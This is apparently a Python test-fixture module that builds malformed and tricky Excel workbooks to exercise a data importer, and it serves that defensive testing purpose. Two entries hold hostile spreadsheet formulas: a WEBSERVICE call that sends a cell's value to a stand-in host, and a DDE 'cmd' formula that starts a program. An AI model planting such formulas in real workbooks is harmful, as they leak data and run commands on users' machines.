"""Nasty workbooks: cells as spreadsheets keep them, and what stands in a workbook beside them."""

from collections.abc import Sequence

from tests.data_access.files.workbooks import SHEET, book, cell, row, sheet, styles, zipped
from tests.data_access.imports.corpus.nasty import GOOD, HEADER, SECOND, Nasty, good_but

_TEXTS = row(1, HEADER) + row(2, GOOD)
_DAY, _PERCENT, _ZEROS, _ERA = 1, 2, 3, 4
_STYLES = {"xl/styles.xml": styles("yyyy/m/d", "0%", "0000", '[$-411]ggge"年"m"月"d"日"')}
_OLE = bytes.fromhex("d0cf11e0a1b11ae1")
_GOAL = ("indicator", "department", "fiscal_year", "value", "kind")
_RUBY = (
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>東北大学</t>'
    '<rPh sb="0" eb="2"><t>トウホク</t></rPh></si><si><r><t>A </t></r><r><t>paper</t></r></si></sst>'
)


def workbook(rows: str, **options: str) -> Nasty:
    """A workbook of one sheet with these rows, and the styles that are named above."""
    return Nasty("file.xlsx", book(sheet(rows, **options), parts=_STYLES))


def with_cells(cells: Sequence[str], but: Sequence[str] = GOOD) -> str:
    """The header, then a row in which cells written out take the place of texts."""
    written = {one.partition('"')[2].partition('"')[0]: one for one in cells}
    letters = [f"{chr(ord('A') + place)}2" for place in range(len(HEADER))]
    inner = "".join(written.get(at, cell(at, text)) for at, text in zip(letters, but, strict=True))
    return row(1, HEADER) + f'<row r="2">{inner}</row>'


def damaged(content: bytes) -> bytes:
    """The workbook with one bit of its sheet turned."""
    at = content.index(SHEET.encode()) + len(SHEET) + 20
    return content[:at] + bytes([content[at] ^ 1]) + content[at + 1 :]


def goal(value: str, style: int) -> Nasty:
    texts = ("international_student_share", "ENG", "2030")
    cells = "".join(cell(f"{letter}2", text) for letter, text in zip("ABC", texts, strict=True))
    cells += cell("D2", value, kind="n", style=style) + cell("E2", "target")
    rows = row(1, _GOAL) + f'<row r="2">{cells}</row>'
    return Nasty("file.xlsx", book(sheet(rows), parts=_STYLES), "goals")


def merged(*ranges: str) -> str:
    return "<mergeCells>" + "".join(f'<mergeCell ref="{one}"/>' for one in ranges) + "</mergeCells>"


def day(value: str, style: int = _DAY) -> str:
    return with_cells([cell("D2", value, kind="n", style=style)])


def formula(text: str, result: str = "x") -> Nasty:
    return workbook(with_cells([cell("C2", result, formula=text)]))


NASTIES = {
    "Excel serials shown as days": workbook(day("45748")),
    "Excel serials shown as Japanese eras": workbook(day("45748", _ERA)),
    "Excel serials that nobody formatted": workbook(day("45748", 0)),
    "a time of day with the day": workbook(day("45748.75")),
    "the 29 February 1900 of Excel": workbook(day("60")),
    "days counted from 1904": Nasty(
        "file.xlsx", book(sheet(day("44286")), parts=_STYLES, properties='<workbookPr date1904="1"/>')
    ),
    "a share shown in per cent": goal("0.125", _PERCENT),
    "a number of persons shown in per cent": workbook(with_cells([cell("F2", "0.03", kind="n", style=_PERCENT)])),
    "a number shown with zeros before it": workbook(with_cells([cell("A2", "7", kind="n", style=_ZEROS)])),
    "the result of a formula": formula("CONCATENATE(A2,1)", "A paper of 2025"),
    "a formula saved without its result": workbook(with_cells([cell("C2", "", formula="1+1", kind="n")])),
    "a formula that came to #REF!": workbook(with_cells([cell("C2", "#REF!", formula="B9", kind="e")])),
    "a formula that asks a web server": formula('_xlfn.WEBSERVICE("http://x.example/?"&A2)'),
    "a formula that reads another workbook": formula("[1]Sheet1!A1"),
    "a formula that starts a program": formula("cmd|'/c calc'!A1"),
    "TRUE in a title": workbook(with_cells([cell("C2", "1", kind="b")])),
    "departments merged over their rows": workbook(
        row(1, HEADER) + row(2, GOOD) + row(3, ("R2", "publication", "B", "2025-04-02", "", "5")), after=merged("E2:E3")
    ),
    "optional cells merged over their rows": workbook(
        row(1, HEADER) + row(2, GOOD) + row(3, (*SECOND[:5], "")), after=merged("F2:F3", "A5:F5")
    ),
    "a merged title above the header": workbook(
        row(1, ("国際活動一覧",)) + row(2, HEADER) + row(3, GOOD), after=merged("A1:F1")
    ),
    "hidden rows": workbook(_TEXTS + row(3, SECOND, ' hidden="1"')),
    "hidden columns": workbook(_TEXTS, before='<cols><col min="2" max="3" hidden="1"/></cols>'),
    "a hidden sheet before the one that is shown": Nasty(
        "file.xlsx", book({"Old": sheet(row(1, HEADER)), "New": sheet(_TEXTS)}, hidden="Old")
    ),
    "several sheets": Nasty("file.xlsx", book({"2024": sheet(_TEXTS), "2025": sheet(_TEXTS)})),
    "reading aids above Japanese letters": Nasty(
        "file.xlsx",
        book(
            sheet(with_cells([cell("C2", "0", kind="s"), cell("A2", "1", kind="s")])),
            parts={"xl/sharedStrings.xml": _RUBY},
        ),
    ),
    "a cell in the far corner": workbook(_TEXTS + f'<row r="1048576">{cell("XFD1048576", "x")}</row>'),
    "an empty cell in the far corner": workbook(_TEXTS + f'<row r="1048576">{cell("XFD1048576", "", style=1)}</row>'),
    "a sheet that lies about its size": workbook(_TEXTS, before='<dimension ref="A1:XFD1048576"/>'),
    "rows in no order": workbook(row(1, HEADER) + row(3, SECOND) + row(2, GOOD)),
    "a cell twice": workbook(row(1, HEADER) + row(2, GOOD).replace("</row>", cell("F2", "9") + "</row>")),
    "a cell that says another row": workbook(row(1, HEADER) + row(2, GOOD).replace('"C2"', '"C3"')),
    "a text that is not there": workbook(with_cells([cell("C2", "7", kind="s")])),
    "cut in the middle": Nasty("file.xlsx", book(sheet(_TEXTS))[:-200]),
    "one byte damaged": Nasty("file.xlsx", damaged(book(sheet(_TEXTS)))),
    "macros": Nasty("file.xlsm", book(sheet(_TEXTS), parts={"xl/vbaProject.bin": _OLE})),
    "links to other workbooks that no cell uses": Nasty(
        "file.xlsx", book(sheet(_TEXTS), parts={"xl/externalLinks/externalLink1.xml": "<x/>"})
    ),
    "a connection to a database": Nasty("file.xlsx", book(sheet(_TEXTS), parts={"xl/connections.xml": "<x/>"})),
    "an embedded object": Nasty("file.xlsx", book(sheet(_TEXTS), parts={"xl/embeddings/oleObject1.bin": _OLE})),
    "an .xls of Excel 2003 named .xlsx": Nasty("file.xlsx", _OLE + bytes(1_000) + "Workbook".encode("utf-16-le")),
    "a workbook with a password": Nasty("file.xlsx", _OLE + bytes(1_000) + "EncryptedPackage".encode("utf-16-le")),
    "a Word document named .xlsx": Nasty("file.xlsx", zipped({"word/document.xml": "<x/>"})),
    "an .ods named .xlsx": Nasty("file.xlsx", zipped({"mimetype": "x", "content.xml": "<x/>"})),
    "an .xlsb named .xlsx": Nasty("file.xlsx", zipped({"xl/workbook.bin": b"x"})),
    "an id that Excel has turned into a day": workbook(with_cells([cell("A2", "45659", kind="n", style=_DAY)])),
    "a good title with other good cells": workbook(with_cells([], good_but(title=" B "))),
}
